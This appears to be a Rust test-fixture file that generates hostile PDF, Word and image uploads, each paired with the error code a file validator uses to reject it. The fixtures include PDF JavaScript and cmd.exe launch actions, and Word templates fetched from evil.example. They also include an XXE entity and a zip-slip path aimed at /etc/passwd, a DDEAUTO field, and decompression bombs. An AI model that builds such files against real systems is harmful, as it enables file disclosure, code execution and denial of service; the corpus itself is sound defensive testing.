//! Hostile files: name, how it is made, and the code it is refused with.

use super::files::*;
use lopdf::{Object, dictionary};
use std::io::{Cursor, Write as _};
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

/// One of them.
pub struct Hostile {
    pub about: &'static str,
    pub name: &'static str,
    pub code: &'static str,
    pub made: fn() -> Vec<u8>,
}

const fn hostile(
    about: &'static str,
    name: &'static str,
    code: &'static str,
    made: fn() -> Vec<u8>,
) -> Hostile {
    Hostile { about, name, code, made }
}

pub const CORPUS: &[Hostile] = &[
    hostile("nothing", "a.pdf", "broken_file", Vec::new),
    hostile("a program", "a.pdf", "wrong_kind", || {
        b"MZ\x90\0\x03\0\0\0 this program %%EOF".to_vec()
    }),
    hostile("a page of the web", "a.pdf", "wrong_kind", || {
        b"<html><script>x</script></html>".to_vec()
    }),
    hostile("a container", "a.pdf", "wrong_kind", good_docx),
    hostile("a picture", "a.pdf", "wrong_kind", || png(4, 4)),
    hostile("something before a PDF", "a.pdf", "wrong_kind", || {
        [b"<html>", good_pdf("x").as_slice()].concat()
    }),
    hostile("a truncated PDF", "a.pdf", "broken_file", || {
        let whole = good_pdf("x");
        whole[..whole.len() - 40].to_vec()
    }),
    hostile("a beginning and an end", "a.pdf", "broken_file", || b"%PDF-1.7\n%%EOF".to_vec()),
    hostile("no table of references", "a.pdf", "broken_file", || {
        let whole = good_pdf("x");
        let table = whole.windows(5).position(|at| at == b"xref\n").unwrap();
        [&whole[..table], b"trailer\n<</Root 1 0 R>>\nstartxref\n1\n%%EOF"].concat()
    }),
    hostile("a script on opening", "a.pdf", "active_content", || {
        pdf(&[
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
            PAGES,
            PAGE,
            &stream(""),
        ])
    }),
    hostile("a script in a packed object", "a.pdf", "active_content", || {
        packed_pdf(&[(
            "OpenAction",
            Object::Dictionary(dictionary! {
                "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)"),
            }),
        )])
    }),
    hostile("a script under an escaped name", "a.pdf", "active_content", || {
        pdf(&[
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/#4a#53(x)>>>>",
            PAGES,
            PAGE,
            &stream(""),
        ])
    }),
    hostile("a program to be started", "a.pdf", "active_content", || {
        pdf(&[
            CATALOG,
            PAGES,
            b"<</Type/Page/Parent 2 0 R/AA<</O<</S/Launch/F(cmd.exe)>>>>>>",
            &stream(""),
        ])
    }),
    hostile("a file in a PDF", "a.pdf", "active_content", || {
        pdf(&[
            CATALOG,
            PAGES,
            PAGE,
            &stream(""),
            b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream",
        ])
    }),
    hostile("a list of files in a PDF, packed", "a.pdf", "active_content", || {
        packed_pdf(&[(
            "Names",
            Object::Dictionary(dictionary! {"EmbeddedFiles" => dictionary! {}}),
        )])
    }),
    hostile("rich media", "a.pdf", "active_content", || {
        pdf(&[CATALOG, PAGES, PAGE, &stream(""), b"<</Type/Annot/Subtype/RichMedia>>"])
    }),
    hostile("a form that acts", "a.pdf", "active_content", || {
        pdf(&[b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA[]>>>>", PAGES, PAGE, &stream("")])
    }),
    hostile("an encrypted PDF", "a.pdf", "encrypted_file", || {
        pdf_with(
            &[CATALOG, PAGES, PAGE, &stream(""), b"<</Filter/Standard/V 2/R 3>>"],
            "/Encrypt 5 0 R/ID[<00><00>]",
        )
    }),
    hostile("a script where a stream seems to be", "a.pdf", "broken_file", hidden_in_a_stream),
    hostile("millions of numbers", "a.pdf", "archive_bomb", many_numbers),
    hostile("a packed bomb", "a.pdf", "archive_bomb", packed_bomb),
    hostile("a bomb of references", "a.pdf", "archive_bomb", reference_bomb),
    hostile("lists within lists", "a.pdf", "broken_file", || {
        let deep = [b"[".repeat(100_000), b"]".repeat(100_000)].concat();
        pdf(&[CATALOG, PAGES, PAGE, &stream(""), &deep])
    }),
    hostile("text", "a.docx", "wrong_kind", || b"just text".to_vec()),
    hostile("a container of something else", "a.docx", "wrong_kind", || {
        container(&[("a.txt", b"x")])
    }),
    hostile("a workbook", "a.docx", "wrong_kind", || {
        container(&[("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")])
    }),
    hostile("an old Word file", "a.docx", "wrong_kind", || ole(b"WordDocument")),
    hostile("a Word file with a password", "a.docx", "encrypted_file", || {
        let name: Vec<u8> = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
        ole(&name)
    }),
    hostile("a macro", "a.docx", "active_content", || docx(&[("word/vbaProject.bin", b"x")])),
    hostile("a macro by its type", "a.docx", "active_content", || {
        let types = TYPES.replace(
            "wordprocessingml.document.main",
            "wordprocessingml.document.macroEnabled.main",
        );
        container(&[
            ("[Content_Types].xml", types.as_bytes()),
            ("word/document.xml", TEXT.as_bytes()),
        ])
    }),
    hostile("an embedded object", "a.docx", "active_content", || {
        docx(&[("word/embeddings/oleObject1.bin", b"x")])
    }),
    hostile("an embedded object under another name", "a.docx", "active_content", || {
        docx(&[("word/media/image1.png", &ole(b""))])
    }),
    hostile("a template from outside", "a.docx", "active_content", || {
        docx(&[(
            "word/_rels/settings.xml.rels",
            relations("attachedTemplate", "http://evil.example/t.dotm", true).as_bytes(),
        )])
    }),
    hostile("a picture from outside", "a.docx", "active_content", || {
        docx(&[(
            "word/_rels/document.xml.rels",
            relations("image", "http://evil.example/p.png", true).as_bytes(),
        )])
    }),
    hostile("a page brought along", "a.docx", "active_content", || {
        docx(&[(
            "word/_rels/document.xml.rels",
            relations("aFChunk", "page.html", false).as_bytes(),
        )])
    }),
    hostile("a definition of entities", "a.docx", "active_content", || {
        docx(&[("word/styles.xml", br#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>"#)])
    }),
    hostile("a field that starts a program", "a.docx", "active_content", || {
        docx(&[(
            "word/header1.xml",
            br#"<w:hdr><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:hdr>"#,
        )])
    }),
    hostile("XML that is none", "a.docx", "broken_file", || {
        docx(&[("word/styles.xml", b"<a><b></a>")])
    }),
    hostile("a name that climbs", "a.docx", "unsafe_archive", || {
        docx(&[("../../etc/cron.d/x", b"x")])
    }),
    hostile("a name from the root", "a.docx", "unsafe_archive", || docx(&[("/etc/passwd", b"x")])),
    hostile("a link", "a.docx", "unsafe_archive", || {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        writer
            .add_symlink("word/document.xml", "/etc/passwd", SimpleFileOptions::default())
            .unwrap();
        writer.finish().unwrap().into_inner()
    }),
    hostile("a container in a container", "a.docx", "unsafe_archive", || {
        docx(&[("word/media/image1.png", &good_docx())])
    }),
    hostile("too many files", "a.docx", "archive_bomb", || {
        let names: Vec<String> = (0..2_000).map(|number| format!("word/p{number}.xml")).collect();
        let files: Vec<(&str, &[u8])> =
            names.iter().map(|name| (name.as_str(), b"<a/>".as_slice())).collect();
        docx(&files)
    }),
    hostile("a bomb", "a.docx", "archive_bomb", || bomb(8)),
    hostile("a bomb that lies about its size", "a.docx", "broken_file", lying_bomb),
    hostile("many small bombs", "a.docx", "archive_bomb", many_bombs),
    hostile("files that share their bytes", "a.docx", "archive_bomb", sharing),
    hostile("an encrypted file in a container", "a.docx", "encrypted_file", || {
        let mut bytes = good_docx();
        for (start, flags) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
            let places: Vec<usize> =
                (0..bytes.len() - 4).filter(|at| &bytes[*at..*at + 4] == start).collect();
            places.into_iter().for_each(|at| bytes[at + flags] |= 1);
        }
        bytes
    }),
    hostile("a truncated container", "a.docx", "broken_file", || {
        let whole = good_docx();
        whole[..whole.len() - 30].to_vec()
    }),
    hostile("a photograph", "a.png", "wrong_kind", || jpeg(4, 4)),
    hostile("a drawing that acts", "a.png", "wrong_kind", || b"<svg onload='x()'/>".to_vec()),
    hostile("an animation", "a.jpg", "wrong_kind", || b"GIF89a\x01\0\x01\0".to_vec()),
    hostile("a picture of ten thousand million points", "a.png", "image_too_large", || {
        let mut bytes = png(4, 4);
        bytes[16..24].copy_from_slice(&[0, 1, 0x86, 0xa0, 0, 1, 0x86, 0xa0]);
        let sum = crc(&bytes[12..29]);
        bytes[29..33].copy_from_slice(&sum.to_be_bytes());
        bytes
    }),
    hostile("a photograph of four thousand million points", "a.jpeg", "image_too_large", || {
        let mut bytes = jpeg(16, 16);
        let frame = bytes.windows(2).position(|at| at == [0xff, 0xc0]).unwrap();
        bytes[frame + 5..frame + 9].fill(0xff);
        bytes
    }),
    hostile("a truncated picture", "a.png", "broken_file", || {
        let whole = png(64, 64);
        whole[..whole.len() / 2].to_vec()
    }),
    hostile("the beginning of a photograph", "a.jpg", "broken_file", || {
        jpeg(64, 64)[..100].to_vec()
    }),
];

/// An OLE compound file, as far as anybody looks.
fn ole(content: &[u8]) -> Vec<u8> {
    [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 504], content].concat()
}

/// A script as an object inside another's stream, and a table that points there.
fn hidden_in_a_stream() -> Vec<u8> {
    let script = "5 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n";
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut offsets = Vec::new();
    let content = stream(script);
    let catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>".as_slice();
    for (index, object) in [catalog, PAGES, PAGE, &content].into_iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", index + 1).as_bytes());
        out.extend_from_slice(object);
        out.extend_from_slice(b"\nendobj\n");
    }
    let inside = out.windows(7).position(|at| at == b"5 0 obj").unwrap();
    offsets.push(inside);
    finish(&mut out, &offsets, "");
    out
}

/// Each number is two bytes here and a hundred in memory.
pub fn many_numbers() -> Vec<u8> {
    let list = [b"[".as_slice(), &b"0 ".repeat(5_000_000), b"]"].concat();
    pdf(&[CATALOG, PAGES, PAGE, &stream(""), &list])
}

/// As many in a packed object.
pub fn packed_bomb() -> Vec<u8> {
    let content = [b"6 0 [".as_slice(), &b"0 ".repeat(5_000_000), b"]"].concat();
    let packed = compressed(dictionary! {"Type" => "ObjStm", "N" => 1, "First" => 4}, content);
    pdf(&[CATALOG, PAGES, PAGE, &stream(""), &packed])
}

/// References to millions of objects in a few kilobytes.
pub fn reference_bomb() -> Vec<u8> {
    let mut out = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n".to_vec();
    let start = out.len();
    let table = compressed(
        dictionary! {
            "Type" => "XRef", "Size" => 8_000_000, "Root" => Object::Reference((1, 0)),
            "W" => vec![1.into(), 0.into(), 0.into()],
        },
        vec![0; 8_000_000],
    );
    out.extend_from_slice(b"2 0 obj\n");
    out.extend_from_slice(&table);
    out.extend_from_slice(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").as_bytes());
    out
}

/// Megabytes of nothing.
pub fn bomb(megabytes: usize) -> Vec<u8> {
    docx(&[("word/media/image1.bmp", &vec![0; megabytes << 20])])
}

/// The same, but its directory says that it is small.
pub fn lying_bomb() -> Vec<u8> {
    let mut bytes = bomb(8);
    let size = u32::to_le_bytes(8 << 20);
    let places: Vec<usize> =
        (0..bytes.len() - 4).filter(|at| bytes[*at..*at + 4] == size).collect();
    assert!(places.len() >= 2, "in the directory and before the file");
    places.into_iter().for_each(|at| bytes[at..at + 4].copy_from_slice(&u32::to_le_bytes(100)));
    bytes
}

/// Each below every limit, all of them above.
pub fn many_bombs() -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let mut noise = 1_u32;
    for number in 0..110 {
        writer.start_file(format!("word/p{number}.bin"), SimpleFileOptions::default()).unwrap();
        // Enough noise for a ratio below the limit.
        let mut part = vec![0_u8; 1 << 20];
        for byte in part.iter_mut().take(11 << 10) {
            noise = noise.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            *byte = noise.to_be_bytes()[0];
        }
        writer.write_all(&part).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// One file's bytes under three names.
fn sharing() -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let plain = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    writer.start_file("word/a.bin", plain).unwrap();
    writer.write_all(&[7; 1000]).unwrap();
    writer.shallow_copy_file("word/a.bin", "word/b.bin").unwrap();
    writer.finish().unwrap().into_inner()
}

/// The checksum of a part of a PNG.
fn crc(bytes: &[u8]) -> u32 {
    let mut sum = u32::MAX;
    for byte in bytes {
        sum ^= u32::from(*byte);
        for _ in 0..8 {
            sum = if sum & 1 == 1 { (sum >> 1) ^ 0xedb8_8320 } else { sum >> 1 };
        }
    }
    !sum
}
